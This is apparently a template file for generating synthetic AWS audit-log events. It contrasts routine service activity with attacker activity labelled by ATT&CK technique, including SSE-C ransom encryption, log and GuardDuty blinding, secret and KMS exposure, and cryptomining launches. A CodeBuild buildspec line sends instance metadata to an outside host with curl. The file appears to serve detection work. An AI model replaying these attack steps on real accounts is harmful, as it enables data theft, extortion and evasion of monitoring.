stray ;; s3 ;; «ListObjects|ListBuckets|GetBucketAcl|GetBucketPolicy|ListObjectVersions» ;; {"bucketName":"«site»-«backup|hr|legal|tfstate»","max-keys":"1000"}
«stray|machine» ;; s3 ;; CopyObject ;; {"bucketName":"«site»-«prod|backup»","key":"«word»/«file»","x-amz-server-side-encryption-customer-algorithm":"AES256","x-amz-copy-source":"«site»-prod/«word»/«file»","_more":{"SSEApplied":"SSE_C"}}
stray ;; s3 ;; PutObject ;; {"bucketName":"«site»-«prod|backup»","key":"«HOW_TO_RECOVER|README|RESTORE-FILES».txt","_more":{"bytesTransferredIn":«num:400:3000»}}
«stray|machine» ;; s3 ;; DeleteObjects ;; {"bucketName":"«site»-«backup|prod|archive»","delete":"","_more":{"objects":1000}}
«stray|person» ;; s3 ;; «PutBucketVersioning|PutBucketLifecycle|DeleteBucketReplication|PutBucketPublicAccessBlock|PutBucketReplication» ;; {"bucketName":"«site»-«backup|prod|archive»","VersioningConfiguration":{"Status":"Suspended"},"days":1,"PublicAccessBlockConfiguration":{"BlockPublicAcls":false,"BlockPublicPolicy":false},"ReplicationConfiguration":{"Rule":{"Destination":{"Bucket":"arn:aws:s3:::@junk@-«num:100:999»","Account":"«num:100000000000:999999999999»"}}}}
nobody ;; s3 ;; «GetObject|ListObjects|PutObject» ;; {"bucketName":"«site»-«backup|customers|invoices»","key":"«word»/«file»","_error":"«AccessDenied|»","_message":"Access Denied"}
# aws functions deployed
machine ;; lambda ;; «UpdateFunctionCode20150331v2|UpdateFunctionConfiguration20150331v2|PublishVersion20150331|CreateFunction20150331|UpdateAlias20150331» ;; {"functionName":"@thing@","s3Bucket":"«site»-artifacts","s3Key":"«word»/«hex:40».zip","runtime":"«python3.12|nodejs20.x|java21»","role":"arn:aws:iam::«account»:role/@thing@-lambda"}
machine ;; lambda ;; «AddPermission20150331v2|CreateEventSourceMapping20150331|PutFunctionConcurrency20171031» ;; {"functionName":"@thing@","principal":"«s3|events|apigateway|sns».amazonaws.com","action":"lambda:InvokeFunction","sourceAccount":"«account»"}
machine ;; lambda ;; Invoke ;; {"functionName":"arn:aws:lambda:«region»:«account»:function:@thing@","invocationType":"«Event|RequestResponse»","_more":{"functionVersion":"$LATEST"}}
machine ;; cloudformation ;; «CreateChangeSet|ExecuteChangeSet|UpdateStack|CreateStack|DescribeStackEvents» ;; {"stackName":"«site»-@thing@","capabilities":["CAPABILITY_IAM"],"templateURL":"https://cdk-hnb659fds-assets-«account»-«region».s3.amazonaws.com/«hex:64».json","roleARN":"arn:aws:iam::«account»:role/cdk-hnb659fds-cfn-exec-role"}
machine ;; events ;; «PutRule|PutTargets|CreateSchedule|EnableRule» ;; {"name":"«word»-nightly","scheduleExpression":"cron(0 «num:0:23» * * ? *)","targets":[{"id":"1","arn":"arn:aws:lambda:«region»:«account»:function:@thing@"}]}
machine ;; codebuild ;; «StartBuild|BatchGetBuilds|UpdateProject» ;; {"projectName":"@thing@","sourceVersion":"«hex:40»","environmentVariablesOverride":[{"name":"STAGE","value":"«dev|prod»"}]}
# T1648 aws functions planted
«stray|machine» ;; lambda ;; «UpdateFunctionCode20150331v2|CreateFunction20150331» ;; {"functionName":"«@junk@|@thing@»","zipFile":"","runtime":"python3.12","role":"arn:aws:iam::«account»:role/«admin|OrganizationAccountAccessRole|@thing@»","environment":{"variables":{"AWS_LAMBDA_EXEC_WRAPPER":"/opt/«letters:3»"}}}
«stray|person» ;; lambda ;; «AddPermission20150331v2|CreateFunctionUrlConfig|AddLayerVersionPermission20181031» ;; {"functionName":"@thing@","principal":"«*|«num:100000000000:999999999999»»","action":"lambda:InvokeFunctionUrl","functionUrlAuthType":"NONE","authType":"NONE"}
«stray|machine» ;; lambda ;; UpdateFunctionConfiguration20150331v2 ;; {"functionName":"@thing@","layers":["arn:aws:lambda:«region»:«num:100000000000:999999999999»:layer:«letters:4:8»:«num:1:9»"]}
«stray|person» ;; cloudformation ;; «CreateStack|CreateStackSet|CreateStackInstances» ;; {"stackName":"@junk@","capabilities":["CAPABILITY_NAMED_IAM"],"templateURL":"https://«letters:6:10».s3.amazonaws.com/«letters:3».yaml","parameters":[{"parameterKey":"TrustedAccount","parameterValue":"«num:100000000000:999999999999»"}]}
«stray|person» ;; events ;; «PutTargets|PutRule|CreateConnection|CreateApiDestination|PutPermission» ;; {"name":"@junk@","eventPattern":"{\"source\":[\"aws.iam\"],\"detail\":{\"eventName\":[\"CreateUser\"]}}","targets":[{"id":"1","arn":"arn:aws:events:us-east-1:«num:100000000000:999999999999»:event-bus/default"}],"invocationEndpoint":"https://«domain»/"}
«stray|machine» ;; codebuild ;; «StartBuild|CreateProject|UpdateProject|UpdateWebhook» ;; {"projectName":"@thing@","buildspecOverride":"version: 0.2\nphases:\n  build:\n    commands:\n      - curl «imds»/latest/meta-data/ ¦ curl -d @- http://«pub»/","privilegedModeOverride":true}
# aws secrets and keys used
machine ;; secretsmanager ;; «GetSecretValue|DescribeSecret|RotateSecret|PutSecretValue» ;; {"secretId":"arn:aws:secretsmanager:«region»:«account»:secret:«prod|stage»/«word»/db-«mixed:6»","versionStage":"AWSCURRENT"}
machine ;; kms ;; «Decrypt|GenerateDataKey|Encrypt|CreateGrant|RetireGrant» ;; {"encryptionContext":{"aws:ebs:id":"vol-«hex:17»"},"encryptionAlgorithm":"SYMMETRIC_DEFAULT","keyId":"arn:aws:kms:«region»:«account»:key/«guid»"}
machine ;; kms ;; «EnableKeyRotation|CreateAlias|CreateKey|TagResource|PutKeyPolicy» ;; {"keyId":"«guid»","policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«account»:root\"},\"Action\":\"kms:*\"}]}"}
person ;; secretsmanager ;; «CreateSecret|ListSecrets|UpdateSecret|GetSecretValue» ;; {"name":"«dev|stage»/«word»/«api-key|smtp»","description":"@ticket@"}
person ;; kms ;; «ScheduleKeyDeletion|CancelKeyDeletion|DisableKey» ;; {"keyId":"«guid»","pendingWindowInDays":30,"description":"«test|poc» «word»"}
machine ;; acm ;; «RequestCertificate|DescribeCertificate|ImportCertificate|RenewCertificate» ;; {"domainName":"«word».«sitedomain»","validationMethod":"DNS"}
# T1555.006 aws secrets and keys taken
stray ;; secretsmanager ;; «GetSecretValue|BatchGetSecretValue» ;; {"secretId":"«prod/«word»/master|stripe|github-token|rds!cluster-«guid»»","secretIdList":["prod/db","prod/stripe","prod/jwt"],"maxResults":20}
stray ;; secretsmanager ;; ListSecrets ;; {"includePlannedDeletion":true,"maxResults":100}
«stray|person» ;; secretsmanager ;; «PutResourcePolicy|DeleteSecret|UpdateSecret» ;; {"secretId":"prod/«word»","resourcePolicy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"secretsmanager:GetSecretValue\",\"Resource\":\"*\"}]}","forceDeleteWithoutRecovery":true}
«stray|person» ;; kms ;; «ScheduleKeyDeletion|DisableKey|DeleteImportedKeyMaterial» ;; {"keyId":"«guid»","pendingWindowInDays":7}
«stray|machine» ;; kms ;; «PutKeyPolicy|CreateGrant» ;; {"keyId":"«guid»","granteePrincipal":"arn:aws:iam::«num:100000000000:999999999999»:root","operations":["Decrypt","ReEncryptFrom","DescribeKey"],"policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"kms:*\"}]}"}
«stray|machine» ;; kms ;; «ReplicateKey|ReEncrypt|ImportKeyMaterial» ;; {"keyId":"«guid»","destinationKeyId":"arn:aws:kms:us-east-1:«num:100000000000:999999999999»:key/«guid»","expirationModel":"KEY_MATERIAL_EXPIRES"}
«stray|machine» ;; acm ;; ExportCertificate ;; {"certificateArn":"arn:aws:acm:«region»:«account»:certificate/«guid»","passphrase":"HIDDEN_DUE_TO_SECURITY_REASONS"}
# aws models asked by applications
machine ;; bedrock ;; «InvokeModel|Converse|InvokeModelWithResponseStream» ;; {"modelId":"«anthropic.claude-3-5-sonnet-20240620-v1:0|amazon.titan-embed-text-v2:0|anthropic.claude-3-haiku-20240307-v1:0»","_more":{"inputTokens":«num:200:4000»,"outputTokens":«num:20:900»}}
person ;; bedrock ;; «ListFoundationModels|GetFoundationModel|CreateGuardrail|ListInferenceProfiles» ;; {"guardrailName":"«word»-«word»","byProvider":"Anthropic"}
person ;; bedrock ;; «PutFoundationModelEntitlement|CreateFoundationModelAgreement|PutUseCaseForModelAccess» ;; {"modelId":"anthropic.claude-3-5-sonnet-20240620-v1:0","reason":"@ticket@"}
machine ;; bedrock ;; PutModelInvocationLoggingConfiguration ;; {"loggingConfig":{"s3Config":{"bucketName":"«site»-bedrock-logs"},"textDataDeliveryEnabled":true}}
machine ;; sagemaker ;; «CreateTrainingJob|CreateEndpoint|CreatePresignedNotebookInstanceUrl|StopNotebookInstance» ;; {"trainingJobName":"«word»-«date»","resourceConfig":{"instanceType":"ml.«m5.large|g5.xlarge»","instanceCount":1}}
# T1496.004 aws models used by strangers
stray ;; bedrock ;; «InvokeModel|Converse|InvokeModelWithResponseStream» ;; {"modelId":"anthropic.claude-3-«opus-20240229-v1:0|5-sonnet-20240620-v1:0»","_error":"«AccessDeniedException|ValidationException|»","_message":"«max_tokens_to_sample: range: 1..1,000,000|You don't have access to the model with the specified model ID.»"}
stray ;; bedrock ;; «GetModelInvocationLoggingConfiguration|ListFoundationModelAgreementOffers|GetFoundationModelAvailability|GetUseCaseForModelAccess» ;; {"modelId":"anthropic.claude-3-opus-20240229-v1:0"}
«stray|person» ;; bedrock ;; «DeleteModelInvocationLoggingConfiguration|DeleteGuardrail» ;; {"guardrailIdentifier":"«token:12»"}
stray ;; bedrock ;; «PutFoundationModelEntitlement|CreateFoundationModelAgreement|PutUseCaseForModelAccess» ;; {"modelId":"anthropic.claude-3-opus-20240229-v1:0","formData":"«b64:60»"}
«stray|person» ;; sagemaker ;; «CreateNotebookInstance|CreatePresignedNotebookInstanceUrl|CreateNotebookInstanceLifecycleConfig» ;; {"notebookInstanceName":"@junk@","instanceType":"ml.p4d.24xlarge","roleArn":"arn:aws:iam::«account»:role/«admin|@thing@»","directInternetAccess":"Enabled","rootAccess":"Enabled"}
# aws mail sent by services
machine ;; ses ;; «SendEmail|SendTemplatedEmail|GetSendQuota|SendBulkTemplatedEmail» ;; {"source":"«noreply|billing|news»@«sitedomain»","template":"«word»-«word»","configurationSetName":"«transactional|marketing»"}
machine ;; ses ;; «VerifyDomainIdentity|CreateEmailIdentity|VerifyDomainDkim|CreateConfigurationSet» ;; {"domain":"mail.«sitedomain»","emailIdentity":"«sitedomain»"}
person ;; ses ;; «GetSendStatistics|ListIdentities|GetAccount|GetSendQuota» ;; {}
machine ;; sns ;; «CreateTopic|Subscribe|SetTopicAttributes|Publish» ;; {"topicArn":"arn:aws:sns:«region»:«account»:«word»-alerts","protocol":"«email|https|lambda»","endpoint":"«ops|oncall»@«sitedomain»"}
person ;; support ;; «CreateCase|DescribeCases|AddCommunicationToCase» ;; {"subject":"«Limit increase|RDS failover|SES bounce rate» @ticket@","severityCode":"«normal|low»"}
person ;; servicequotas ;; «RequestServiceQuotaIncrease|GetServiceQuota» ;; {"serviceCode":"«ec2|lambda|ses»","quotaCode":"L-«HEX:8»","desiredValue":«num:32:128»}
# T1496.003 aws mail sent by strangers
stray ;; ses ;; «GetSendQuota|GetAccount|ListIdentities|GetAccountSendingEnabled|ListServiceQuotas» ;; {"_error":"«AccessDenied|»"}
«stray|machine» ;; ses ;; «VerifyEmailIdentity|CreateEmailIdentity|VerifyDomainIdentity» ;; {"emailAddress":"@outsider@","emailIdentity":"«domain»","domain":"«domain»"}
«stray|machine» ;; ses ;; «SendEmail|SendRawEmail|SendBulkEmail» ;; {"source":"«info|support|security»@«sitedomain»","destination":{"toAddresses":["HIDDEN_DUE_TO_SECURITY_REASONS"]}}
«stray|person» ;; ses ;; «PutAccountDetails|UpdateAccountSendingEnabled|PutAccountSuppressionAttributes» ;; {"productionAccessEnabled":true,"mailType":"MARKETING","websiteURL":"https://«domain»","useCaseDescription":"@junk@"}
stray ;; sns ;; «GetSMSAttributes|SetSMSAttributes|Publish|GetSMSSandboxAccountStatus» ;; {"attributes":{"MonthlySpendLimit":"«num:100:9000»"},"phoneNumber":"HIDDEN_DUE_TO_SECURITY_REASONS"}
stray ;; servicequotas ;; RequestServiceQuotaIncrease ;; {"serviceCode":"ec2","quotaCode":"«L-1216C47A|L-417A185B|L-DB2E81BA»","desiredValue":«num:500:9000»}
«stray|person» ;; support ;; CreateCase ;; {"subject":"«Limit increase: SES sending limits|Limit increase: EC2 Instances»","severityCode":"urgent","ccEmailAddresses":["@outsider@"]}
# aws pools of customers
machine ;; cognito-idp ;; «AdminCreateUser|AdminGetUser|AdminSetUserPassword|AdminAddUserToGroup|AdminDisableUser» ;; {"userPoolId":"«region»_«mixed:9»","username":"HIDDEN_DUE_TO_SECURITY_REASONS","groupName":"«customers|beta»"}
machine ;; cognito-idp ;; «UpdateUserPoolClient|UpdateUserPool|CreateUserPoolClient|DescribeUserPool» ;; {"userPoolId":"«region»_«mixed:9»","mfaConfiguration":"«ON|OPTIONAL»","callbackURLs":["https://«word».«sitedomain»/callback"],"explicitAuthFlows":["ALLOW_USER_SRP_AUTH"]}
nobody ;; cognito-idp ;; «InitiateAuth|RespondToAuthChallenge|SignUp|ConfirmSignUp|ForgotPassword» ;; {"clientId":"«token:26»","authFlow":"USER_SRP_AUTH","_more":{"requestContext":{"countryCode":"«DE|US|FR»"}}}
nobody ;; cognito-identity ;; «GetId|GetCredentialsForIdentity|GetOpenIdToken» ;; {"identityPoolId":"«region»:«guid»","logins":{"cognito-idp.«region».amazonaws.com/«region»_«mixed:9»":"HIDDEN_DUE_TO_SECURITY_REASONS"}}
person ;; cognito-idp ;; «ListUsers|AdminResetUserPassword|AdminListUserAuthEvents» ;; {"userPoolId":"«region»_«mixed:9»","filter":"email = \"«first».«last»@«domain»\"","limit":20}
# T1110.004 aws pools of customers beset
nobody ;; cognito-idp ;; «InitiateAuth|ForgotPassword|ConfirmForgotPassword» ;; {"clientId":"«token:26»","authFlow":"USER_PASSWORD_AUTH","_error":"«NotAuthorizedException|UserNotFoundException|TooManyRequestsException»","_message":"Incorrect username or password."}
nobody ;; cognito-identity ;; GetCredentialsForIdentity ;; {"identityPoolId":"«region»:«guid»","logins":null,"_got":{"credentials":{"accessKeyId":"ASIA«HEX:16»"}},"_more":{"authType":"unauthenticated"}}
«stray|person» ;; cognito-idp ;; «UpdateUserPoolClient|UpdateUserPool|SetUserPoolMfaConfig» ;; {"userPoolId":"«region»_«mixed:9»","mfaConfiguration":"OFF","callbackURLs":["https://«domain»/cb"],"explicitAuthFlows":["ALLOW_ADMIN_USER_PASSWORD_AUTH"]}
stray ;; cognito-idp ;; ListUsers ;; {"userPoolId":"«region»_«mixed:9»","limit":60,"paginationToken":"«b64:40»"}
«stray|machine» ;; cognito-idp ;; «AdminSetUserPassword|AdminUpdateUserAttributes|AdminAddUserToGroup» ;; {"userPoolId":"«region»_«mixed:9»","username":"HIDDEN_DUE_TO_SECURITY_REASONS","permanent":true,"groupName":"«admins|staff»","userAttributes":[{"name":"email_verified","value":"true"}]}
nobody ;; cognito-idp ;; «SignUp|UpdateUserAttributes» ;; {"clientId":"«token:26»","userAttributes":[{"name":"custom:«role|tier|isAdmin»","value":"«admin|1|true»"}]}
# aws watch kept
machine ;; guardduty ;; «CreateDetector|UpdateDetector|CreateMembers|GetFindings|ListFindings|UpdateOrganizationConfiguration» ;; {"detectorId":"«hex:32»","enable":true,"features":[{"name":"«S3_DATA_EVENTS|EKS_AUDIT_LOGS|RUNTIME_MONITORING»","status":"ENABLED"}]}
person ;; guardduty ;; «CreateFilter|ArchiveFindings|UpdateFindingsFeedback» ;; {"detectorId":"«hex:32»","name":"scanner-@ticket@","action":"ARCHIVE","findingCriteria":{"criterion":{"service.action.networkConnectionAction.remoteIpDetails.ipAddressV4":{"eq":["«ip2»"]},"type":{"eq":["Recon:EC2/PortProbeUnprotectedPort"]}}}}
machine ;; config ;; «PutConfigRule|PutEvaluations|StartConfigRulesEvaluation|PutConfigurationRecorder|DescribeComplianceByConfigRule» ;; {"configRule":{"configRuleName":"«s3-bucket-public-read-prohibited|encrypted-volumes|restricted-ssh»","source":{"owner":"AWS"}},"configurationRecorder":{"recordingGroup":{"allSupported":true}}}
person ;; securityhub ;; «BatchUpdateFindings|GetFindings|CreateInsight|BatchEnableStandards» ;; {"findingIdentifiers":[{"id":"arn:aws:securityhub:«region»:«account»:subscription/aws-foundational-security-best-practices/v/1.0.0/«S3.9|EC2.8»/finding/«guid»"}],"workflow":{"status":"«RESOLVED|NOTIFIED|SUPPRESSED»"},"note":{"text":"@ticket@","updatedBy":"«user»"}}
machine ;; cloudtrail ;; «CreateTrail|UpdateTrail|PutEventSelectors|StartLogging|DescribeTrails|LookupEvents» ;; {"name":"org-trail","s3BucketName":"«site»-cloudtrail","isMultiRegionTrail":true,"enableLogFileValidation":true,"eventSelectors":[{"readWriteType":"All","includeManagementEvents":true}]}
machine ;; logs ;; «PutRetentionPolicy|CreateLogGroup|PutSubscriptionFilter|DeleteLogGroup|PutMetricFilter» ;; {"logGroupName":"/aws/lambda/@thing@","retentionInDays":«14|30|90»,"filterPattern":""}
person ;; cloudwatch ;; «PutMetricAlarm|DeleteAlarms|DisableAlarmActions|PutDashboard» ;; {"alarmNames":["«test|old»-«word»-cpu"],"alarmName":"«word»-5xx","actionsEnabled":true}
# T1562.008 aws watch blinded
«stray|person» ;; guardduty ;; «UpdateDetector|CreateFilter|CreateIPSet|UpdatePublishingDestination|DisassociateFromAdministratorAccount» ;; {"detectorId":"«hex:32»","enable":«false|true»,"findingPublishingFrequency":"SIX_HOURS","action":"ARCHIVE","name":"@junk@","findingCriteria":{"criterion":{"severity":{"gte":1}}},"location":"https://s3.amazonaws.com/@junk@-«num:10:99»/ips.txt","activate":true}
«stray|person» ;; config ;; «StopConfigurationRecorder|DeleteConfigurationRecorder|DeleteDeliveryChannel|DeleteConfigRule|PutConfigurationRecorder» ;; {"configurationRecorderName":"default","configRuleName":"restricted-ssh","configurationRecorder":{"recordingGroup":{"allSupported":false,"resourceTypes":["AWS::S3::Bucket"]}}}
«stray|person» ;; securityhub ;; «BatchUpdateFindings|DisableSecurityHub|BatchDisableStandards|CreateAutomationRule|DisassociateMembers» ;; {"criteria":{"severityLabel":[{"value":"CRITICAL","comparison":"EQUALS"}]},"workflow":{"status":"SUPPRESSED"},"ruleName":"@junk@"}
«stray|person|machine» ;; cloudtrail ;; «UpdateTrail|PutEventSelectors|PutInsightSelectors» ;; {"name":"org-trail","s3BucketName":"@junk@-«num:100:999»","isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"enableLogFileValidation":false,"eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false,"excludeManagementEventSources":["kms.amazonaws.com","iam.amazonaws.com"]}]}
«stray|person» ;; logs ;; «PutRetentionPolicy|DeleteLogGroup|DeleteSubscriptionFilter|DeleteLogStream|DeleteMetricFilter» ;; {"logGroupName":"«aws-cloudtrail-logs-«account»|/aws/vpc/flowlogs|/aws/eks/prod/cluster»","retentionInDays":1,"filterName":"«siem|splunk»"}
«stray|person» ;; cloudwatch ;; «DeleteAlarms|DisableAlarmActions» ;; {"alarmNames":["root-login","iam-policy-change","unauthorized-api-calls","billing"]}
«stray|person» ;; «inspector2|macie2|detective» ;; «Disable|DisableMacie|DeleteGraph» ;; {"accountIds":["«account»"],"resourceTypes":["EC2","ECR"]}
# aws instances and images
machine ;; ec2 ;; «CreateImage|CopyImage|DeregisterImage|CreateSnapshot|DeleteSnapshot|CreateSnapshots» ;; {"instanceId":"i-«hex:17»","name":"golden-«word»-«date»","noReboot":true,"description":"«Created by CreateImage(i-«hex:17»)|AWS Backup»"}
person ;; ec2 ;; «ModifyInstanceMetadataOptions|StopInstances|StartInstances|ModifyInstanceAttribute|CreateTags» ;; {"instanceId":"i-«hex:17»","httpTokens":"required","httpEndpoint":"enabled","instanceType":{"value":"t3.large"}}
machine ;; ec2 ;; ModifySnapshotAttribute ;; {"snapshotId":"snap-«hex:17»","createVolumePermission":{"add":{"items":[{"userId":"«account»"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}
service ;; ec2 ;; «RunInstances|TerminateInstances|CreateNetworkInterface|CreateFleet» ;; {"instancesSet":{"items":[{"instanceId":"i-«hex:17»","imageId":"ami-«hex:17»"}]},"instanceType":"m6i.large","_session":"«autoscaling|eks|spot|ec2fleet».amazonaws.com"}
machine ;; autoscaling ;; «UpdateAutoScalingGroup|CreateLaunchConfiguration|StartInstanceRefresh|SetDesiredCapacity|CompleteLifecycleAction» ;; {"autoScalingGroupName":"@thing@","desiredCapacity":«num:1:12»,"maxSize":«num:12:20»}
person ;; ec2 ;; «DescribeInstances|DescribeImages|DescribeSnapshots|DescribeVolumes|GetConsoleOutput|GetConsoleScreenshot» ;; {"instancesSet":{"items":[{"instanceId":"i-«hex:17»"}]},"filterSet":{"items":[{"name":"tag:env","valueSet":{"items":[{"value":"prod"}]}}]}}
# T1578 aws instances and images misused
«stray|person» ;; ec2 ;; «ModifySnapshotAttribute|ModifyImageAttribute» ;; {"snapshotId":"snap-«hex:17»","createVolumePermission":{"add":{"items":[{"«group":"all|userId":"«num:100000000000:999999999999»»"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}
«stray|person» ;; ec2 ;; «CreateStoreImageTask|CreateInstanceExportTask|ExportImage» ;; {"imageId":"ami-«hex:17»","bucket":"@junk@-«num:100:999»","exportToS3Task":{"diskImageFormat":"VMDK","s3Bucket":"@junk@"}}
«stray|person» ;; ec2 ;; «ModifyInstanceMetadataOptions|DisableEbsEncryptionByDefault|DisableImageBlockPublicAccess|DisableSnapshotBlockPublicAccess» ;; {"instanceId":"i-«hex:17»","httpTokens":"optional","httpPutResponseHopLimit":64}
stray ;; ec2 ;; RunInstances ;; {"instanceType":"«p3.16xlarge|g4dn.12xlarge|c5.24xlarge|p4d.24xlarge»","minCount":«num:8:50»,"maxCount":«num:50:100»,"imageId":"ami-«hex:17»","keyName":"@junk@","userData":"<sensitiveDataRemoved>","_error":"«VcpuLimitExceeded|Client.RequestLimitExceeded|»","_message":"You have requested more vCPU capacity than your current vCPU limit allows."}
«stray|machine» ;; autoscaling ;; «UpdateAutoScalingGroup|CreateAutoScalingGroup|CreateLaunchConfiguration» ;; {"autoScalingGroupName":"@junk@","minSize":«num:20:60»,"desiredCapacity":«num:60:200»,"maxSize":«num:200:900»,"instanceType":"c6a.48xlarge"}
stray ;; ec2 ;; «DescribeInstances|DescribeInstanceAttribute|DescribeSnapshots|DescribeRegions|DescribeSecurityGroups» ;; {"attribute":"userData","dryRun":true,"_error":"«Client.UnauthorizedOperation|Client.DryRunOperation»"}
# aws settings seldom touched by their owners
person ;; access-analyzer ;; «DeleteAnalyzer|UpdateFindings|CreateArchiveRule» ;; {"analyzerName":"«poc|test|unused»-«word»","ruleName":"vendor-«word»"}
person ;; organizations ;; «InviteAccountToOrganization|AcceptHandshake|EnablePolicyType|DisablePolicyType|CloseAccount» ;; {"target":{"id":"«num:100000000000:999999999999»","type":"ACCOUNT"},"notes":"@ticket@ migration of «Word»","policyType":"«TAG_POLICY|BACKUP_POLICY»"}
person ;; sso ;; «UpdateSsoConfiguration|UpdateMfaDeviceManagementForDirectory|AssociateDirectory|StartExternalIdPConfiguration» ;; {"directoryId":"d-«hex:10»","mfaMode":"ALWAYS_ON","allowedMfaTypes":["WEBAUTHN","TOTP"],"ssoUrl":"https://«site».okta.com/app/amazon_aws_sso/«mixed:20»/sso/saml"}
person ;; account ;; «PutContactInformation|StartPrimaryEmailUpdate|CloseAccount|DisableRegion» ;; {"primaryEmail":"aws+«word»@«sitedomain»","accountId":"«num:100000000000:999999999999»","regionName":"«ap-east-1|me-south-1»"}
machine ;; iam ;; «PutRolePermissionsBoundary|DeleteRolePermissionsBoundary|PutUserPermissionsBoundary|ListAttachedUserPolicies|GenerateCredentialReport|GetCredentialReport» ;; {"roleName":"@thing@","permissionsBoundary":"arn:aws:iam::«account»:policy/«team|developer»-boundary"}
machine ;; sts ;; «GetFederationToken|AssumeRole» ;; {"name":"«grafana|quicksight|upload»-«word»","roleArn":"arn:aws:iam::«account»:role/grafana","roleSessionName":"grafana","durationSeconds":3600,"policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:PutObject\",\"Resource\":\"arn:aws:s3:::«site»-uploads/*\"}]}"}
machine ;; rolesanywhere ;; «CreateSession|CreateTrustAnchor|CreateProfile» ;; {"trustAnchorArn":"arn:aws:rolesanywhere:«region»:«account»:trust-anchor/«guid»","source":{"sourceType":"AWS_ACM_PCA"},"name":"onprem-«word»","profileArn":"arn:aws:rolesanywhere:«region»:«account»:profile/«guid»"}
person ;; iam ;; «CreateLoginProfile|UpdateLoginProfile|DeactivateMFADevice|CreateAccessKey|DeleteVirtualMFADevice» ;; {"userName":"«other»","passwordResetRequired":true,"serialNumber":"arn:aws:iam::«account»:mfa/«other»"}
# aws machines tended by hand
person ;; ec2 ;; «GetPasswordData|EnableSerialConsoleAccess|DescribeInstanceAttribute|DescribeSecurityGroups|DescribeRegions» ;; {"instanceId":"i-«hex:17»","attribute":"«instanceType|disableApiTermination|userData»"}
machine ;; ssm ;; «CreateDocument|UpdateDocument|ModifyDocumentPermission|DescribeParameters|GetParameterHistory» ;; {"name":"«site»-«patch|bootstrap|cis»-«word»","documentType":"«Command|Automation»","accountIdsToAdd":["«account»"],"content":"{\"mainSteps\":[{\"action\":\"aws:runShellScript\",\"inputs\":{\"runCommand\":[\"dnf -y update\"]}}]}"}
machine ;; ssm ;; SendCommand ;; {"documentName":"«AWS-RunShellScript|AWS-RunPowerShellScript»","targets":[{"key":"tag:Role","values":["«web|worker|db»"]}],"parameters":{"commands":["«systemctl restart «word»|/opt/«site»/deploy.sh «hex:7»|Get-Service W32Time|docker pull «account».dkr.ecr.«region».amazonaws.com/«word»:«hex:7»|df -h»"]},"comment":"@ticket@"}
person ;; ec2-instance-connect ;; «SendSerialConsoleSSHPublicKey|OpenTunnel» ;; {"instanceId":"i-«hex:17»","serialPort":0,"instanceConnectEndpointId":"eice-«hex:17»","sSHPublicKey":"ssh-ed25519 AAAA«b64:40»"}
machine ;; ec2 ;; «AuthorizeSecurityGroupIngress|CreateClientVpnEndpoint|AuthorizeClientVpnIngress|CreateVpnConnection|ReplaceNetworkAclEntry|DeleteNetworkAclEntry» ;; {"groupId":"sg-«hex:17»","targetNetworkCidr":"@network@","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":«443|8443|5432»,"toPort":«443|8443|5432»,"groups":{"items":[{"groupId":"sg-«hex:17»"}]}}]}}
machine ;; ec2 ;; «CreateTrafficMirrorSession|CreateTrafficMirrorFilterRule|CreateTrafficMirrorTarget» ;; {"networkInterfaceId":"eni-«hex:17»","trafficMirrorTargetId":"tmt-«hex:17»","description":"ndr sensor «region»","destinationCidrBlock":"@network@"}
person ;; ec2 ;; «ModifyImageAttribute|CreateStoreImageTask|ExportImage|DisableSnapshotBlockPublicAccess|DisableImageBlockPublicAccess|EnableImageBlockPublicAccess» ;; {"imageId":"ami-«hex:17»","launchPermission":{"add":{"items":[{"organizationArn":"arn:aws:organizations::«account»:organization/o-«token:10»"}]}},"bucket":"«site»-images"}
machine ;; ec2 ;; RunInstances ;; {"instanceType":"«t3.medium|m6i.large|c6i.2xlarge|g5.xlarge»","minCount":1,"maxCount":«num:1:4»,"imageId":"ami-«hex:17»","keyName":"«site»-ops","userData":"<sensitiveDataRemoved>","tagSpecificationSet":{"items":[{"tags":[{"key":"env","value":"«dev|prod»"}]}]}}
machine ;; autoscaling ;; «CreateAutoScalingGroup|CreateLaunchConfiguration|DeleteAutoScalingGroup» ;; {"autoScalingGroupName":"@thing@","minSize":«num:0:2»,"desiredCapacity":«num:1:6»,"maxSize":«num:6:12»,"instanceType":"m6i.large"}
# aws data kept in order
person ;; rds ;; «ModifyDBSnapshotAttribute|ModifyDBClusterSnapshotAttribute» ;; {"dBSnapshotIdentifier":"@thing@-«date»","attributeName":"restore","valuesToAdd":["«account»"],"reason":"@ticket@"}
machine ;; rds ;; «DeleteDBInstance|DeleteDBCluster|DeleteDBInstanceAutomatedBackup» ;; {"dBInstanceIdentifier":"«pr-«num:1:900»|test|sandbox»-«word»","skipFinalSnapshot":true,"deleteAutomatedBackups":true}
machine ;; dynamodb ;; «Scan|DeleteTable|DeleteBackup|Query» ;; {"tableName":"«word»-«test|cache|sessions»","limit":«num:25:1000»}
machine ;; backup ;; «DeleteRecoveryPoint|PutBackupVaultAccessPolicy|DeleteBackupPlan|DeleteBackupVault» ;; {"backupVaultName":"«test|old»-«word»","recoveryPointArn":"arn:aws:ec2:«region»::snapshot/snap-«hex:17»","reason":"lifecycle"}
machine ;; secretsmanager ;; «PutResourcePolicy|BatchGetSecretValue|DeleteSecret|ValidateResourcePolicy» ;; {"secretId":"«stage|test»/«word»","recoveryWindowInDays":30,"resourcePolicy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«account»:role/@thing@\"},\"Action\":\"secretsmanager:GetSecretValue\",\"Resource\":\"*\"}]}"}
machine ;; kms ;; «ReplicateKey|ReEncrypt|ImportKeyMaterial|PutKeyPolicy» ;; {"keyId":"mrk-«hex:32»","replicaRegion":"eu-west-1","destinationKeyId":"arn:aws:kms:«region»:«account»:key/«guid»"}
machine ;; acm ;; ExportCertificate ;; {"certificateArn":"arn:aws:acm:«region»:«account»:certificate/«guid»","passphrase":"HIDDEN_DUE_TO_SECURITY_REASONS","_session":"cert-sync"}
